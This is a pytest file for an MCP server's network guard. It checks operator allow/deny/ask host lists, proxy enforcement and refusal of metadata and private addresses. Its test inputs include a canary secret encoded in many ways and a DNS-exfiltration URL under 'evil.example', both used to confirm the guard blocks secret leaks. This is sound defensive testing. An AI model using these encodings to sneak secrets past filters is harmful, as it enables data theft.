"""Do tools reach what the operator's lists and the profile let them, and does no secret leave with a request?"""

import asyncio
import base64
import dataclasses
import json
import ssl
from collections.abc import AsyncGenerator, Callable, Sequence
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from mcp_server.guards.network.network import CallNetwork, ToolNetworks
from mcp_server.guards.network.outgoing import SecretSearch
from mcp_server.guards.redaction import Redactor
from mcp_server.model.destinations import ALL_PORTS, parse_destinations
from mcp_server.model.network import Request
from mcp_server.model.posture import Profile
from mcp_server.model.results import Code, Refusal
from mcp_server.model.tools import Demand, Effect
from mcp_server.model.web_access import WebAccess
from mcp_server.model.web_address import parse_web_address
from tests.guards.network.site import Pages, pages, shut
from tests.guards.network.test_http import certificate

SECRET = "Zq7/plain+Canary~9tEst"
SEARCH = SecretSearch(Redactor([SECRET]).get_spellings)


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


async def resolve(host: str, port: int) -> Sequence[str]:
    return [] if host == "lost.example" else ["127.0.0.1"]


def lists(port: int, allow: Sequence[str] = (), deny: Sequence[str] = (), ask: Sequence[str] = ()) -> WebAccess:
    """`127.0.0.1` is always listed: it is where the test's server is."""
    allowed = [f"127.0.0.1:{port}", *(f"{name}:{port}" for name in allow)]
    closed, asked = (parse_destinations(names, ALL_PORTS) for names in (deny, ask))
    return WebAccess(parse_destinations(allowed), closed, asked)


def build(
    web: WebAccess,
    profile: Profile = Profile.NORMAL,
    named: Sequence[tuple[str, int]] = (),
    effect: Effect = Effect.READ_REMOTE,
) -> CallNetwork:
    network = ToolNetworks(SEARCH).build_network(Demand(effect, Profile.RESTRICTED), profile, web, named)
    return dataclasses.replace(network, egress=replace(network.egress, resolve=resolve))


async def reach(network: CallNetwork, request: Request) -> str:
    """What became of it: `reached`, or the refusal's message."""
    try:
        await network.fetch(request)
        return "reached"
    except Refusal as refused:
        assert refused.problem.code is Code.NETWORK_REFUSED
        assert refused.problem.way_out
        return refused.problem.message
    finally:
        await network.close()


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("profile", "allow", "deny", "ask", "said"),
    [
        (Profile.NORMAL, [], [], [], "reached"),
        (Profile.RESTRICTED, [], [], [], "At profile `restricted`"),
        (Profile.RESTRICTED, ["a.example"], [], [], "reached"),
        (Profile.RESTRICTED, ["*"], [], [], "reached"),
        (Profile.UNRESTRICTED, [], ["a.example"], [], "The operator does not let tools reach"),
        (Profile.UNRESTRICTED, [], ["*.example"], [], "The operator does not let tools reach"),
        (Profile.UNRESTRICTED, ["a.example"], ["a.example"], [], "The operator does not let tools reach"),
        (Profile.NORMAL, ["a.example"], ["*"], [], "reached"),
        (Profile.NORMAL, ["b.example"], ["*"], [], "The operator does not let tools reach"),
        (Profile.NORMAL, [], [], ["a.example"], "only with the user's approval"),
        (Profile.NORMAL, ["a.example"], [], ["*"], "reached"),
        (Profile.NORMAL, [], ["127.0.0.0/8"], [], "which the operator closed"),
        (Profile.NORMAL, ["a.example"], ["::ffff:7f00:1"], [], "reached"),
    ],
)
async def test_the_strictest_list_that_names_a_host_decides(
    profile: Profile, allow: list[str], deny: list[str], ask: list[str], said: str
) -> None:
    async with pages() as one:
        one.add("/")
        web = lists(one.port, allow, deny, ask)
        assert said in await reach(build(web, profile), Request(f"http://a.example:{one.port}/"))
        assert len(one.heard) == (said == "reached")


@pytest.mark.anyio
async def test_a_host_that_is_asked_about_is_reached_only_if_the_call_named_it() -> None:
    async with pages() as one:
        one.add("/")
        one.redirect("/away", f"http://b.example:{one.port}/")
        web, named = lists(one.port, ask=["*"]), [("a.example", one.port)]
        assert await reach(build(web, named=named), Request(f"http://a.example:{one.port}/")) == "reached"
        said = await reach(build(web, named=named), Request(f"http://a.example:{one.port}/away", redirects=3))
        assert "`b.example" in said
        assert [heard.headers["host"] for heard in one.heard] == [f"a.example:{one.port}"] * 2


@pytest.mark.anyio
async def test_each_host_is_noted_once_even_if_it_was_not_reached() -> None:
    async with pages() as one:
        one.add("/")
        one.redirect("/away", f"http://b.example:{one.port}/")
        network = build(lists(one.port, deny=["c.example"]), effect=Effect.SPEND)
        for _ in range(2):
            await network.fetch(Request(f"http://a.example:{one.port}/away", redirects=3))
        for host in ("c.example", "lost.example"):
            with pytest.raises(Refusal):
                await network.fetch(Request(f"http://{host}:{one.port}/"))
        await (await network.connect("127.0.0.1", one.port)).close()
        assert list(network.hosts) == [
            f"{name}:{one.port}" for name in ("a.example", "b.example", "lost.example", "127.0.0.1")
        ]
        await network.close()


def encode_twice(text: str) -> str:
    return quote(quote(text, safe=""), safe="")


ENCODINGS: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "upper case": str.upper,
    "lower case": str.lower,
    "URL": lambda text: quote(text, safe=""),
    "URL, every byte": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "URL, twice": encode_twice,
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64, one byte later": lambda text: base64.b64encode(b"x" + text.encode()).decode(),
    "base64, two bytes later": lambda text: base64.b64encode(b"xy" + text.encode() + b"z").decode(),
    "base64 for URLs": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 in lines": lambda text: base64.encodebytes(b"-" * 50 + text.encode() * 2).decode(),
    "base32": lambda text: base64.b32encode(text.encode()).decode().lower(),
    "hex": lambda text: text.encode().hex(),
    "HEX": lambda text: text.encode().hex().upper(),
    "JSON": lambda text: json.dumps({"a": text}),
    "JSON, escaped": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
}


@pytest.mark.anyio
@pytest.mark.parametrize("place", ["path", "query", "header", "body", "stream"])
@pytest.mark.parametrize("encoding", ENCODINGS)
async def test_no_known_secret_leaves_in_any_encoding(encoding: str, place: str) -> None:
    written = ENCODINGS[encoding](SECRET)
    async with pages() as one:
        one.add("/")
        base, query, headers, body = (
            f"http://a.example:{one.port}/",
            quote(written, safe="%"),
            list[tuple[str, str]](),
            b"",
        )
        network = build(lists(one.port), effect=Effect.SPEND)
        match place:
            case "path":
                base += query
            case "query":
                base += f"?q={query}"
            case "header":
                headers.append(("X-Note", written.replace("\n", " ")))
            case "body":
                body = written.encode()
            case _:
                stream = await network.connect("a.example", one.port)
                half = len(written) // 2
                with pytest.raises(Refusal):
                    await stream.write(b"POST / HTTP/1.1\r\n\r\n" + written[:half].encode())
                    await stream.write(written[half:].encode())
                await stream.close()
                await network.close()
                return
        said = await reach(network, Request(base, "POST" if body else "GET", headers, body))
        assert "contains a secret" in said
        assert one.heard == []


@pytest.mark.anyio
@pytest.mark.parametrize("encoding", ["base32", "hex", "HEX"])
@pytest.mark.parametrize("size", [20, 63])
async def test_no_known_secret_is_looked_up_as_a_name(encoding: str, size: int) -> None:
    written = ENCODINGS[encoding](SECRET).rstrip("=")
    labels = [written[at : at + size] for at in range(0, len(written), size)]
    network, asked = build(WebAccess()), list[str]()

    async def listen(host: str, port: int) -> Sequence[str]:
        asked.append(host)
        return []

    network.egress = replace(network.egress, resolve=listen)
    assert "contains a secret" in await reach(network, Request(f"http://{'.'.join(labels)}.evil.example/"))
    assert asked == []


@pytest.mark.anyio
async def test_no_redirect_takes_a_secret_along() -> None:
    async with pages() as one:
        one.redirect("/", f"/{quote(SECRET, safe='')}")
        assert "contains a secret" in await reach(
            build(lists(one.port)), Request(f"http://a.example:{one.port}/", redirects=1)
        )
        assert len(one.heard) == 1


def test_a_secret_that_becomes_known_later_is_found_as_well() -> None:
    redactor = Redactor()
    search = SecretSearch(redactor.get_spellings)
    assert not search.is_in(SECRET.encode())
    redactor.learn([SECRET])
    assert search.is_in(SECRET.encode())


@given(st.text(max_size=200), st.binary(max_size=200))
def test_what_holds_no_secret_is_sent(text: str, body: bytes) -> None:
    address = parse_web_address(f"http://a.example/?{quote(text, errors='replace')}")
    assert not SEARCH.is_in_request(address, Request(address.url, headers=[("a", text)], body=body))
    assert not SecretSearch(tuple).is_in_request(address, Request(address.url, body=SECRET.encode()))


@given(st.text(min_size=8, max_size=60).filter(lambda text: len(text.strip()) >= 8 and len(text.splitlines()) == 1))
def test_any_secret_is_found_in_every_encoding_that_menugate_knows(secret: str) -> None:
    search = SecretSearch(Redactor([secret]).get_spellings)
    try:
        spellings = [
            encode(secret)
            for name, encode in ENCODINGS.items()
            if name not in ("upper case", "lower case", "JSON, escaped")
        ]
    except UnicodeEncodeError:
        return
    assert [one for one in spellings if not search.is_in(f"before {one} after".encode())] == []


@pytest.mark.anyio
@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_everything_goes_through_the_operators_proxy(scheme: str, tmp_path: Path) -> None:
    ours = certificate(tmp_path, "a.example")
    async with pages(ours if scheme == "https" else None) as one, proxy(one) as (asked, port):
        one.add("/", b"hi")
        web = replace(
            lists(one.port, deny=["b.example"]),
            proxy=parse_web_address(f"http://127.0.0.1:{port}"),
            authorities=str(tmp_path / "pem"),
        )
        network = build(web, effect=Effect.SPEND)
        network.egress = replace(network.egress, resolve=resolve_nothing)
        assert (await network.fetch(Request(f"{scheme}://a.example:{one.port}/"))).body == b"hi"
        assert asked == [f"CONNECT a.example:{one.port}" if scheme == "https" else f"GET http://a.example:{one.port}/"]
        for url in (f"{scheme}://b.example:{one.port}/", "http://169.254.169.254/", "http://10.0.0.1/"):
            with pytest.raises(Refusal):
                await network.fetch(Request(url))
        with pytest.raises(Refusal, match="operator set a proxy"):
            await network.connect("a.example", one.port)
        await network.close()
        # A name that this machine knows, and that leads inside, is not asked for either.
        inside = build(web)
        inside.egress = replace(inside.egress, resolve=resolve_inside)
        assert "a private network" in await reach(inside, Request(f"{scheme}://a.example:{one.port}/"))
        assert len(asked) == 1


async def resolve_nothing(host: str, port: int) -> Sequence[str]:
    raise OSError("no such name")


async def resolve_inside(host: str, port: int) -> Sequence[str]:
    return ["10.0.0.1"]


def test_the_environment_chooses_neither_proxy_nor_certificates(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from mcp_server.guards.network.certificates import load_trust_context

    certificate(tmp_path, "a.example")
    before = load_trust_context().cert_store_stats()
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "pem"))
    monkeypatch.setenv("SSL_CERT_DIR", str(tmp_path))
    assert load_trust_context().cert_store_stats() == before
    more = load_trust_context(str(tmp_path / "pem"))
    assert more.cert_store_stats()["x509"] == before["x509"] + 1
    assert more.verify_mode is ssl.CERT_REQUIRED
    assert more.check_hostname


@asynccontextmanager
async def proxy(target: Pages) -> AsyncGenerator[tuple[list[str], int]]:
    """A proxy that knows every name, and what it was asked for."""
    asked, open_ = list[str](), list[asyncio.StreamWriter]()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        open_.append(writer)
        head = await reader.readuntil(b"\r\n\r\n")
        asked.append(head.decode().rpartition(" HTTP/")[0].splitlines()[0].removesuffix(" HTTP/1.1"))
        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", target.port)
        open_.append(far_writer)
        if head.startswith(b"CONNECT"):
            writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        else:
            far_writer.write(b"GET / HTTP/1.1\r\n\r\n")
        await asyncio.gather(copy(reader, far_writer), copy(far_reader, writer))

    async def copy(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
        with suppress(OSError):
            while data := await source.read(65536):
                sink.write(data)
                await sink.drain()
        sink.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield asked, server.sockets[0].getsockname()[1]
        for writer in open_:
            await shut(writer)
